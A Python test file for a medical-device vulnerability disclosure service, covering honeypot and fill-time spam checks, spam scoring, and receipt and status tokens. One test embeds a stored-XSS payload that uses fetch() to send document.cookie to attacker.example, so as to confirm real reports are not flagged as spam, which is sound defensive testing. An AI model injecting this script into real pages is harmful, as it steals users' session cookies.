"""Spam helpers (honeypot, fill time, content score) and receipt/status tokens."""

from __future__ import annotations

import base64
import hashlib
import re
from datetime import UTC, datetime, timedelta

from medsec.cvd.spam import (
    SPAM_THRESHOLD,
    check_fill_time,
    honeypot_triggered,
    spam_score,
)
from medsec.cvd.tokens import hash_token, receipt_id, status_token, verify_token

T0 = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)


def test_honeypot() -> None:
    assert not honeypot_triggered({"product": "x"})
    assert not honeypot_triggered({"website": ""})
    assert not honeypot_triggered({"website": "  \n"})
    assert honeypot_triggered({"website": "http://spam.example"})
    assert honeypot_triggered({"website": b"x"})
    assert honeypot_triggered({"url": "x"}, name="url")


def test_fill_time_boundaries() -> None:
    assert not check_fill_time(T0, T0 + timedelta(seconds=4.9)).ok
    assert check_fill_time(T0, T0 + timedelta(seconds=5)).ok
    assert check_fill_time(T0, T0 + timedelta(hours=24)).ok
    stale = check_fill_time(T0, T0 + timedelta(hours=24, seconds=1))
    assert not stale.ok and stale.problem and "expired" in stale.problem
    future = check_fill_time(T0, T0 - timedelta(seconds=1))
    assert not future.ok and future.problem and "after" in future.problem
    fast = check_fill_time(T0, T0 + timedelta(seconds=1))
    assert fast.problem and "1.0s" in fast.problem
    assert check_fill_time(T0, T0 + timedelta(seconds=1), minimum=timedelta(0)).ok


def test_real_report_with_xss_payload_is_not_spam() -> None:
    desc = (
        "Stored XSS in the patient list: the name field is rendered without escaping.\n"
        "<script>fetch('https://attacker.example/c?'+document.cookie)</script>\n"
        "See https://owasp.org/www-community/attacks/xss/ for the class."
    )
    score = spam_score(["Patient monitor", "4.2"], description=desc)
    assert score.score == 0 and not score.likely_spam and score.reasons == ()


def test_link_spam_scores() -> None:
    links = " ".join(f"https://shop{i}.example/buy" for i in range(8))
    score = spam_score([links], description="Cheap casino bonus and viagra here")
    # 8 links: 3 over the free 5; 8 distinct domains: 2; two keywords: 4
    assert score.score == 3 + 2 + 4 and score.likely_spam
    assert any("casino" in r for r in score.reasons)
    markup = spam_score([], description='<a href="http://x.example">cheap</a> [url=http://y]')
    assert "link markup (<a href> or [url])" in markup.reasons and markup.score >= 3


def test_short_and_shouting() -> None:
    assert spam_score([], description="hi").score == 1
    shout = spam_score([], description="BUY NOW THE BEST PRODUCTS IN THE WORLD")
    assert shout.reasons == ("mostly upper-case text",)
    assert SPAM_THRESHOLD == 5


def test_receipt_ids() -> None:
    ids = {receipt_id() for _ in range(2_000)}
    assert len(ids) == 2_000
    for rid in list(ids)[:50]:
        assert re.fullmatch(r"VR-[0-9A-HJKMNP-TV-Z]{16}", rid)


def test_status_tokens_entropy_and_uniqueness() -> None:
    tokens = [status_token() for _ in range(2_000)]
    assert len(set(tokens)) == len(tokens)
    for token in tokens[:50]:
        raw = base64.urlsafe_b64decode(token + "=")
        assert len(raw) == 32 and re.fullmatch(r"[A-Za-z0-9_-]{43}", token)
    # every bit position varies across tokens (no constant bytes)
    raws = [base64.urlsafe_b64decode(t + "=") for t in tokens[:200]]
    ones = [sum((r[i // 8] >> (i % 8)) & 1 for r in raws) for i in range(256)]
    assert all(40 < count < 160 for count in ones)


def test_hash_and_verify() -> None:
    token = status_token()
    stored = hash_token(token)
    assert stored == hashlib.sha256(token.encode()).hexdigest() and token not in stored
    assert verify_token(token, stored) and verify_token(token, stored.upper())
    assert not verify_token(token[:-1] + ("A" if token[-1] != "A" else "B"), stored)
    assert not verify_token("", stored)
    assert hash_token("\udc80") != hash_token("")  # hostile input does not crash
